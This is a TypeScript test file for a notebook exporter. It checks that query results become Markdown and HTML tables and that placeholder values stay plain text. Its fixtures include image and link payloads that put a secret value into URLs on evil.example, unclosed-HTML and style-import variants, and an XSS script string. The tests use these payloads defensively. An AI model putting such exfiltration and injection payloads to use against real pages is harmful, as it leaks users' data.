import assert from 'node:assert/strict';
import MarkdownIt from 'markdown-it';
import { cellValues } from '../../../../client/src/notebook/cellValues.ts';
import { PlacedValues } from '../../../../client/src/notebook/placedValues.ts';
import {
  markdownTable,
  plainTable,
  shownResult,
  snapshotOf,
} from '../../../../client/src/notebook/cellResult.ts';
import { readKept } from '../../../../client/src/notebook/keptResult.ts';
import {
  type ExportedCell,
  exportHtml,
  exportMarkdown,
} from '../../../../client/src/notebook/exportNotebook.ts';
import { speak, spokenLanguage } from '../../../../client/src/protocol/language.ts';
import { type CellResult, printResult } from '../../../../client/src/protocol/notebook.ts';
import type { Row } from '../../../../client/src/protocol/results.ts';
import type { Snapshot } from '../../../../client/src/results/snapshot.ts';
import { drawPicture } from '../../../../media/src/chartPicture/main.ts';
import { countries } from '../../../../scripts/countries.cjs';
import { resultOf } from '../results/run.ts';

function snapshot(columns: readonly string[], rows: readonly Row[]): Snapshot {
  return {
    id: 'r1',
    title: 'total',
    query: 'select 1',
    connection: 'here · example.com',
    takenAt: Date.UTC(2026, 0, 2, 3, 4),
    elapsedMs: 1200,
    result: resultOf(columns, rows),
  };
}

function resultWith(columns: readonly string[], rows: readonly Row[]): CellResult {
  return shownResult(snapshot(columns, rows)).result;
}

describe('a result below a cell', () => {
  it('is the same result when it is opened elsewhere', () => {
    const before = snapshot(
      ['n UInt64', 'name String'],
      [
        [1, 'a\nb'],
        [null, '|'],
      ],
    );
    const found = readKept(printResult(shownResult(before)));
    assert.ok(found);
    assert.deepEqual(snapshotOf(found), before);
  });

  it('is a table in Markdown and in plain text', () => {
    const result = resultWith(
      ['n UInt64', 'name String'],
      [
        [1, 'a\nb|c'],
        [{ $integer: '18446744073709551615' }, null],
      ],
    );
    assert.equal(
      markdownTable(result),
      '| n | name |\n| ---: | --- |\n| 1 | a<br>b\\|c |\n| 18446744073709551615 | *NULL* |\n',
    );
    assert.equal(plainTable(result), 'n\tname\n1\ta b|c\n18446744073709551615\t\n');
  });

  it('says how many rows a table leaves out', () => {
    const result = resultWith(
      ['n UInt64'],
      Array.from({ length: 130 }, (_, at) => [at]),
    );
    assert.match(markdownTable(result), /\n30 more rows\.\n$/);
  });
});

/** The elements of a page that a renderer with HTML and links of addresses makes, without its text. */
function structure(markdown: string): string {
  const renderer = new MarkdownIt({ html: true, linkify: true });
  renderer.linkify.set({ fuzzyLink: true, fuzzyEmail: true });
  const page = renderer.render(markdown);
  const elements = page.match(/<[^>]*>/g) ?? [];
  return elements.filter((each) => !/^<(?:\/?(?:em|strong|s)|br)>$/.test(each)).join('');
}

describe('values in words', () => {
  const results = [
    resultWith(
      ['n UInt64', 'name String'],
      [
        [7, 'x'],
        [8, 'y'],
      ],
    ),
  ];
  const values = cellValues([
    { title: 'total', results },
    { title: '', results },
  ]);
  const withValues = (words: string, all: Readonly<Record<string, string>>): string => {
    const places = new PlacedValues(all);
    return places.filled(places.marked(words));
  };

  it('are those of the first row', () => {
    assert.equal(withValues('{{ total.n }}, {{total.name}}', values), '7, x');
  });

  const placed: [words: string, value: string, text: string][] = [
    ['Of **{{ v }}** and [{{v}}](https://a.example)', '5', 'Of **5** and [5](https://a.example)'],
    ['| a |\n| --- |\n| {{ v }} |', 'a|b', '| a |\n| --- |\n| a\\|b |'],
    ['a{{v}}b', 'x\ny', 'ax<br>yb'],
    ['{{ v }} below zero', '-5', '-5 below zero'],
    ['{{ v }}', '# no heading', '&#35;&#32;no&#32;heading'],
    ['{{ v }}. It is', '12', '&#49;2. It is'],
    ['from {{ v }}', 'example.com', 'from &#101;xample&#46;com'],
    ['a\n{{ v }}', '---', 'a\n&#45;&#45;&#45;'],
    ['**{{ v }}**', '', '**&#8203;**'],
    ['`{{ v }}`\n\n    {{ v }}', '5', '`{{ v }}`\n\n    {{ v }}'],
    ['<p title="{{ v }}">a</p>', '5', '<p title="{{ v }}">a</p>'],
    ['www.a.example/{{ v }} {{ v }}@a.example', '5', 'www.a.example/{{ v }} {{ v }}@a.example'],
  ];
  for (const [words, value, text] of placed) {
    it(`make ${JSON.stringify(text)} of ${JSON.stringify(words)}`, () => {
      assert.equal(withValues(words, { v: value }), text);
    });
  }

  const frames = [
    '{{ v }}',
    'a\n{{ v }}',
    '- {{ v }}',
    '> {{ v }} b',
    '{{ v }}. b',
    '# {{ v }}',
    '{{v}}{{v}}{{v}}',
    '*{{v}}*',
    '[{{v}}]\n\n[a]: https://a.example',
    '{{v}}\n---',
    '| {{v}}\n| ---',
  ];
  const hostile = [
    '# a',
    '#',
    '===',
    '---',
    '- a',
    '+',
    '12. a',
    '12',
    '',
    ' ',
    '    a',
    '\t',
    '> a',
    '```',
    '~~~',
    '***',
    '_ _ _',
    '| - |',
    ':-:',
    '<b>',
    '<!--',
    '&lt;',
    '\\',
    '[x](https://a.example)',
    '![x](a)',
    '[a]: b',
    'a',
    'https://a.example',
    'www.a.example',
    'a@b.example',
    '//localhost',
    '\u0000',
    '\ud800',
    'a\n\n# b',
    '$$',
    '[^1]',
    '1)',
    '--',
    '-',
  ];
  for (const words of frames) {
    it(`are text, whatever they are, in ${JSON.stringify(words)}`, () => {
      const like = structure(withValues(words, { v: 'plain' }));
      const left = structure(words);
      for (const value of hostile) {
        const shown = structure(withValues(words, { v: value }));
        assert.ok([like, left].includes(shown), `${JSON.stringify(value)}: ${shown}`);
      }
    });
  }

  it('stay placeholders where no value is known', () => {
    assert.equal(
      withValues('{{ total.m }} {{ constructor }} {{', values),
      '{{ total.m }} {{ constructor }} {{',
    );
  });
});

describe('an exported notebook', () => {
  const results = [resultWith(['name String'], [['<b>&']])];
  const cells = [
    { kind: 'markdown', title: '', value: '# Hi <script>\n\n{{ total.name }}', results: [] },
    {
      kind: 'query',
      title: 'total',
      value: 'select 1 -- ```',
      results: results.map((result) => ({ result })),
    },
  ] as const;

  it('is Markdown with queries and tables', () => {
    assert.equal(
      exportMarkdown(cells),
      '```markdown\n# Hi <script>\n\n{{ total.name }}\n```\n\n### total\n\n````hogql\nselect 1 -- ```\n````\n\n' +
        '| name |\n| --- |\n| \\<b\\>\\& |\n\n*1 row · 1.2 s · 2026-01-02 03:04 UTC · here · example.com*\n',
    );
  });

  describe('whose data would like to be more than text', () => {
    const hostile = '![x](https://evil.example/a.png) <img src=x> https://evil.example';
    const secret = resultWith(['total String', 'hostile String'], [['4711', hostile]]);
    const exported = (value: string): readonly ExportedCell[] => [
      { kind: 'markdown', title: '', value, results: [] },
      { kind: 'query', title: 's', value: '', results: [{ result: secret }] },
    ];
    const words = (page: string): string => page.slice(0, page.indexOf('<div class="table"'));

    it('shows values as text', () => {
      const page = words(exportHtml('A', exported('Of **{{ s.total }}**: {{ s.hostile }}')));
      assert.match(page, /Of <strong>4711<\/strong>: !\[x\]\(https/);
      assert.doesNotMatch(page, /<img|<a /);
      const text = exportMarkdown(exported('{{ s.hostile }}'));
      const shown = new MarkdownIt().renderInline(text.split('\n')[0] ?? '');
      assert.doesNotMatch(shown, /<img|<a /);
    });

    const addresses = [
      '![](https://evil.example/?t={{ s.total }})',
      '![](https://evil.example/?t={{s.total}})',
      '![](<https://evil.example/?t= {{ s.total }}>)',
      '[x](https://evil.example/?t={{s.total}})',
      'https://evil.example/?t={{s.total}}',
      '<https://evil.example/?t={{s.total}}>',
      '![][x]\n\n[x]: https://evil.example/?t={{s.total}}',
      '![](\nhttps://evil.example/?t={{s.total}})',
      '![x](\n/a/{{s.total}})',
      '![x](\n&#104;ttps&colon;//evil.example/?t={{ s.total }})',
      '[x]:\nhttps&colon;//evil.example/{{s.total}}\n\n![x]',
      '![x](a "\n{{ s.total }}")',
      '<https:evil.example/{{ s.total }}>',
      'www.evil.example/{{s.total}}',
      '{{s.total}}.evil.example.com',
      '<img src="https://evil.example/{{s.total}}">',
      '<img\nsrc="https://evil.example/{{s.total}}">',
    ];
    for (const value of addresses) {
      it(`puts none into an address: ${JSON.stringify(value)}`, () => {
        const page = words(exportHtml('A', exported(value)));
        for (const [, address = ''] of page.matchAll(/(?:src|href)="([^"]*)"/g)) {
          assert.doesNotMatch(address, /4711/);
        }
        assert.doesNotMatch(page, /<img/);
        const [text = ''] = exportMarkdown(exported(value)).split('### s');
        assert.doesNotMatch(text, /4711/);
      });
    }

    const open = [
      '<div><img src="https://evil.example/?t=\n\n{{ s.total }}',
      '<pre><img src="https://evil.example/?',
      '<!-- a --!><img src="https://evil.example/? -->',
      '<style>@import url(https://evil.example/?',
      '<?php <img src="https://evil.example/? ?>',
      '```\n<img src="',
      '~~~',
    ];
    for (const value of open) {
      it(`comes into no address that words leave open: ${JSON.stringify(value)}`, () => {
        const text = exportMarkdown([...exported(value), ...exported('x {{ s.hostile }}')]);
        const shown = new MarkdownIt({ html: true, linkify: true }).render(text);
        const outside = shown.replaceAll(/<pre><code[^>]*>[^<]*<\/code><\/pre>/g, '');
        assert.doesNotMatch(outside, /<(?:img|style|pre|!|\?)/);
        assert.match(shown, /<td>4711<\/td>/);
      });
    }

    it('loads no image of another place, and shows one that it contains', () => {
      const page = exportHtml('A', exported('![a cat](https://evil.example/cat.png)'));
      assert.match(page, /<a href="https:\/\/evil\.example\/cat\.png">a cat<\/a>/);
      assert.match(page, /img-src data:; form-action 'none'; base-uri 'none'"/);
      assert.match(
        exportHtml('A', exported('![dot](data:image/gif;base64,R0lGOD)')),
        /<img src="data:image\/gif;base64,R0lGOD" alt="dot">/,
      );
    });
  });

  it('has the titles of cells and the names of connections as text', () => {
    const result = { ...resultWith(['n UInt64'], [[1]]), connection: 'a* ![x](b)' };
    const cell = { kind: 'query', title: '[x](y) <b>', value: '', results: [{ result }] } as const;
    const shown = new MarkdownIt({ html: true }).render(exportMarkdown([cell]));
    assert.match(shown, /<h3>\[x\]\(y\) &lt;b&gt;<\/h3>/);
    assert.match(shown, /<em>1 row · [^<]* · a\* !\[x\]\(b\)<\/em>/);
  });

  it('has the words of the editor, and says in which language they are', () => {
    const words = { 'Rows of {0}': 'Zeilen von {0}', '1 row': '1 Zeile' };
    speak({ tag: 'de', words });
    try {
      const page = exportHtml('A', cells);
      assert.match(page, /<html lang="de">/);
      assert.match(page, /aria-label="Zeilen von total"/);
      assert.match(exportMarkdown(cells), /\*1 Zeile · 1,2 s · /);
    } finally {
      speak({ tag: 'en', words: {} });
    }
  });

  it('is a page in which results are never markup, and nothing runs', () => {
    const page = exportHtml('A & B', cells);
    assert.match(page, /<title>A &amp; B<\/title>/);
    assert.match(page, /<td>&#60;b&#62;&#38;<\/td>/);
    assert.match(page, /default-src 'none'/);
    assert.doesNotMatch(page, /<script|src=|href=|<b>/);
  });
});

describe('a chart of an exported notebook', () => {
  const columns = [
    { name: 'event', type: 'String' },
    { name: 'n', type: 'UInt64' },
  ];
  const rows: Row[] = [
    ['<script>alert(1)</script>', 3],
    ['b', 5],
  ];
  const order = {
    language: spokenLanguage(),
    columns,
    rows,
    width: 600,
    height: 300,
    countries: () => Promise.resolve(''),
  };

  it('is drawn into the page, with its rows below', async () => {
    const picture = await drawPicture({ ...order, spec: { kind: 'bar', x: 'event', y: ['n'] } });
    assert.ok(picture);
    const result = resultWith(['event String', 'n UInt64'], rows);
    const cell = { kind: 'query', title: 'a', value: 'select 1', results: [{ result, picture }] };
    const page = exportHtml('A', [cell as ExportedCell]);
    assert.match(page, /<figure role="img" aria-label="Bar chart of n by event/);
    assert.match(page, /<svg width="600" height="300"/);
    assert.match(
      page,
      /<p class="facts">[^<]*<\/p><details><summary>Rows<\/summary>\n<div class="table" [^>]*><table>/,
    );
    assert.match(page, /<code><span class="code-keyword">select<\/span> /);
    assert.doesNotMatch(page, /<script|src=|onload/);
    assert.match(exportMarkdown([cell as ExportedCell]), /\| b \| 5 \|/);
  });

  it('is left out where the rows have nothing to draw', async () => {
    const words = { ...order, columns: columns.slice(0, 1), rows: [['a']] };
    assert.equal(await drawPicture({ ...words, spec: { kind: 'bar', y: [] } }), undefined);
  });

  it('draws names and numbers as every kind of chart, the world map included', async () => {
    const places: Row[] = [
      ['DE', 3],
      ['US', 5],
    ];
    for (const kind of ['line', 'area', 'bar', 'pie', 'number', 'funnel', 'map'] as const) {
      const picture = await drawPicture({
        ...order,
        rows: places,
        countries: () => Promise.resolve(countries()),
        spec: { kind, y: [] },
      });
      assert.match(picture?.svg ?? '', /^<svg .*<\/svg>$/s, kind);
    }
  });
});

describe('a cell of an exported notebook', () => {
  const capped = resultWith(['n UInt64'], [[1]]);
  const cells: readonly ExportedCell[] = [
    {
      kind: 'query',
      title: 'few',
      value: 'select {since}',
      values: [['since', '-30d <b>']],
      isStale: true,
      results: [
        { result: { ...capped, rowCount: 100, cap: { kind: 'noLimit', rows: 100, liftTo: 9 } } },
      ],
    },
    {
      kind: 'query',
      title: 'bad',
      value: 'select n',
      results: [],
      failure: 'Unknown column `n` <b>',
    },
  ];

  it('has the values of its placeholders as text', () => {
    assert.match(exportHtml('t', cells), /<p class="note">since = -30d &lt;b&gt;<\/p>/);
    assert.match(exportMarkdown(cells), /\n\*since = -30d \\<b\\>\*\n/);
  });

  it('says of its result that it is stale, and that there are more rows', () => {
    const words = 'Stale: the query or a value has changed since · First 100 rows · 1.2 s';
    assert.ok(exportHtml('t', cells).includes(`<p class="facts">${words}`));
    assert.ok(exportMarkdown(cells).includes(`*${words}`));
  });

  it('says why it has no result', () => {
    assert.match(exportHtml('t', cells), /<p class="failure">Unknown column `n` &lt;b&gt;<\/p>/);
    assert.match(exportMarkdown(cells), /\n> Unknown column \\`n\\` \\<b\\>\n/);
  });
});

describe('the rows of an exported notebook', () => {
  const page = (rows: number): string => {
    const all = Array.from({ length: rows }, (_, at): Row => [at]);
    const results = [{ result: resultWith(['n UInt64'], all) }];
    return exportHtml('t', [{ kind: 'query', title: 'a', value: 'select 1', results }]);
  };

  it('are in sight up to twenty, and the others are folded', () => {
    assert.doesNotMatch(page(20), /<details>/);
    const [shown = '', folded = ''] = page(130).split('<details>');
    assert.equal([...shown.matchAll(/<td/g)].length, 20);
    assert.match(folded, /^<summary>80 more rows<\/summary>/);
    assert.match(folded, /<p class="note">30 rows are not exported\.<\/p>/);
  });

  it('have their facts above the table, not as its caption', () => {
    assert.doesNotMatch(page(1), /<caption>/);
    assert.match(page(1), /<p class="facts">1 row · /);
  });
});
